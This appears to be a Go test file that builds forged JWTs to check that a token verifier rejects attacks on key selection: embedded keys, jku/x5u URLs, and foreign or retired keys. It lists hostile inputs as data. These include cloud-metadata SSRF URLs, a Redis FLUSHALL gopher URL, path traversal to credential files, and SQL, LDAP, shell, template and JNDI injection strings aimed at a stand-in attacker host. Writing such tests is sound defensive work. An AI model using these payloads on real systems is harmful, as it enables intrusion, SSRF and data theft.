package attack

import (
	"fmt"
	"strings"
)

// keyGroups are the attacks on the choice of the key.
var keyGroups = []group{
	{"J030", "key in the header", attackEmbedded},
	{"J031", "jku", attackJKU},
	{"J032", "certificates in the header", attackX5},
	{"J033", "kid that is a path", attackKidPath},
	{"J034", "kid that is a command", attackKidCommand},
	{"J035", "kid that is no ID", attackKidKind},
	{"J036", "kid of another issuer's key", attackKidForeign},
	{"J037", "keys that are not published", attackKidRetired},
	{"J038", "no kid", attackNoKid},
	{"J039", "issuer that is an address", attackIssuerAddress},
}

func attackEmbedded(m *maker) {
	own := NewKey("EdDSA", m.t.Key.ID)
	jwk := own.publicMembers().String()
	h := m.header().with("alg", `"EdDSA"`)
	m.bad("of the attacker", own.compact(h.with("jwk", jwk).String(), m.claims().String()))
	m.bad("of the attacker, no kid", own.compact(h.without("kid").with("jwk", jwk).String(), m.claims().String()))
	m.bad("HMAC key", hmacOf("HS256", []byte("k"), m.header().with("alg", `"HS256"`).with("jwk", `{"kty":"oct","k":"aw"}`).String(), m.claims().String()))
	m.bad("ours, well signed", m.sign(m.header().with("jwk", m.t.Key.JWK()), m.claims()))
	m.bad("null, well signed", m.sign(m.header().with("jwk", "null"), m.claims()))
}

// Trap is a host that must never be asked for anything: it does not exist.
const Trap = "attacker.invalid"

func attackJKU(m *maker) {
	own := NewKey("EdDSA", "attacker")
	for _, u := range []string{
		"https://" + Trap + "/jwks.json", m.t.JWKSURL + "@" + Trap + "/", "https://good@" + Trap + "/jwks.json", m.t.JWKSURL + "/../../upload/jwks.json",
		m.t.JWKSURL + "#" + Trap, "file:///dev/null", "http://169.254.169.254/latest/meta-data/", "gopher://127.0.0.1:6379/_FLUSHALL", "data:application/json,{}",
	} {
		m.bad(u, own.compact(m.header().with("kid", `"attacker"`).with("jku", quote(u)).String(), m.claims().String()))
	}
	m.bad("well signed", m.sign(m.header().with("jku", quote("https://"+Trap+"/jwks.json")), m.claims()))
}

func attackX5(m *maker) {
	own := NewKey("EdDSA", m.t.Key.ID)
	cert := string(certificate(own))
	cert = strings.ReplaceAll(cert[strings.IndexByte(cert, '\n'):strings.LastIndex(cert, "\n-----")], "\n", "")
	for _, f := range []member{
		{"x5u", quote("https://" + Trap + "/cert.pem")},
		{"x5c", "[" + quote(cert) + "]"},
		{"x5c", "[]"},
		{"x5t", quote("dGVzdA")},
		{"x5t#S256", quote("dGVzdA")},
	} {
		m.bad(f.name+" "+fmt.Sprint(len(f.value))+", signed by the attacker", own.compact(m.header().with(f.name, f.value).String(), m.claims().String()))
	}
	m.bad("x5u, well signed", m.sign(m.header().with("x5u", quote("https://"+Trap+"/cert.pem")), m.claims()))
	m.bad("x5c, well signed", m.sign(m.header().with("x5c", "["+quote(cert)+"]"), m.claims()))
}

func (m *maker) kids(kids []string) {
	for _, kid := range kids {
		h := m.header().with("kid", quote(kid))
		m.bad(fmt.Sprintf("%.40q", kid), m.sign(h, m.claims()))
		m.bad(fmt.Sprintf("%.40q, HS256 with nothing", kid), hmacOf("HS256", nil, h.with("alg", `"HS256"`).String(), m.claims().String()))
	}
}

func attackKidPath(m *maker) {
	m.kids([]string{
		"../../../../dev/null", "/dev/null", "/proc/self/environ", `C:\Windows\win.ini`, "..%2f..%2fdev%2fnull", "file:///dev/null",
		m.t.Key.ID + "/../" + m.t.Key.ID, "./" + m.t.Key.ID, m.t.Key.ID + "\x00.pem",
	})
}

func attackKidCommand(m *maker) {
	m.kids([]string{
		"' UNION SELECT 'aw' --", "x' OR '1'='1", "*)(uid=*))(|(uid=*", `{"$ne":null}`, "; sleep 5", "$(sleep 5)", "`sleep 5`", "{{7*7}}", "${7*7}",
		"a\r\nX-Injected: 1", "${jndi:ldap://" + Trap + "/a}", "__proto__", "constructor", "toString",
	})
}

func attackKidKind(m *maker) {
	for _, v := range []string{"0", "null", "true", "{}", "[]", "[" + quote(m.t.Key.ID) + "]", `{"$gt":""}`, "1e400"} {
		m.bad(v, m.sign(m.header().with("kid", v), m.claims()))
	}
	m.kids([]string{
		"", " ", m.t.Key.ID + " ", " " + m.t.Key.ID, strings.ToUpper(m.t.Key.ID) + "X", m.t.Key.ID[:len(m.t.Key.ID)-1], m.t.Key.ID + m.t.Key.ID,
		strings.Repeat("k", 1000), "https://" + Trap + "/key", strings.Replace(m.t.Key.ID, "e", "\u0435", 1) + "\u200b",
	})
}

func attackKidForeign(m *maker) {
	h := m.header().with("alg", quote(m.t.Foreign.Algorithm)).with("kid", quote(m.t.Key.ID))
	m.bad("our iss", m.t.Foreign.compact(h.String(), m.claims().String()))
	m.bad("their iss", m.t.Foreign.compact(h.String(), m.claims().with("iss", `"https://other.example"`).String()))
	m.bad("their own kid", m.t.Foreign.compact(h.with("kid", `"theirs"`).String(), m.claims().String()))
}

func attackKidRetired(m *maker) {
	h := m.header().with("alg", quote(m.t.Retired.Algorithm))
	m.bad("retired, its kid", m.t.Retired.compact(h.with("kid", quote(m.t.Retired.ID)).String(), m.claims().String()))
	m.bad("retired, kid of the current", m.t.Retired.compact(h.String(), m.claims().String()))
	m.bad("current, kid of the retired", m.sign(m.header().with("kid", quote(m.t.Retired.ID)), m.claims()))
}

func attackNoKid(m *maker) {
	m.bad("by the retired key", m.t.Retired.compact(m.header().with("alg", quote(m.t.Retired.Algorithm)).without("kid").String(), m.claims().String()))
	m.bad("by another issuer's key", m.t.Foreign.compact(m.header().with("alg", quote(m.t.Foreign.Algorithm)).without("kid").String(), m.claims().String()))
	m.bad("by our key", m.sign(m.header().without("kid"), m.claims()))
}

func attackIssuerAddress(m *maker) {
	own := NewKey("EdDSA", m.t.Key.ID)
	for _, iss := range []string{"https://" + Trap, "http://127.0.0.1:1/", "http://169.254.169.254/", "file:///etc/passwd"} {
		c := m.claims().with("iss", quote(iss))
		m.bad(iss+", signed by the attacker", own.compact(m.header().with("alg", `"EdDSA"`).String(), c.String()))
		m.bad(iss+", unknown kid", own.compact(m.header().with("alg", `"EdDSA"`).with("kid", quote(iss)).String(), c.String()))
	}
}
